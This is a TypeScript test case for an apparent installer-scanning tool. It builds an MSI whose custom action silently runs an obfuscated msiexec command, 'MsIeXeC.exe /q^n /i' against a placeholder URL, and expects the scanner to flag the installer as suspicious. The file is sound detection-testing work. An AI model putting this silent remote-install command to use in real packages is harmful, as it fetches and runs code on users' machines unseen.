/** One action installs another package from a URL, silently. */
import { buildInstaller } from '../builder/installer.js';
import { ruleId } from '../rule-id.js';
import { noBundle, type SampleCase } from '../sample-case.js';

export const sample: SampleCase = {
  name: 'other-remote-msiexec',
  title: 'a silent remote installation',
  kind: 'other',
  fileName: 'remote.msi',
  build: () =>
    buildInstaller({
      name: 'Remote Starter',
      customActions: [
        {
          name: 'Fetch',
          type: 34 + 64,
          source: 'TARGETDIR',
          target: 'MsIeXeC.exe /q^n /i http://files.invalid/k2m9x7qp',
          after: 'InstallFinalize',
        },
      ],
    }),
  expected: noBundle({ verdict: 'suspicious', findings: [ruleId.remoteMsiexec, ruleId.randomPayloadUrl] }),
};
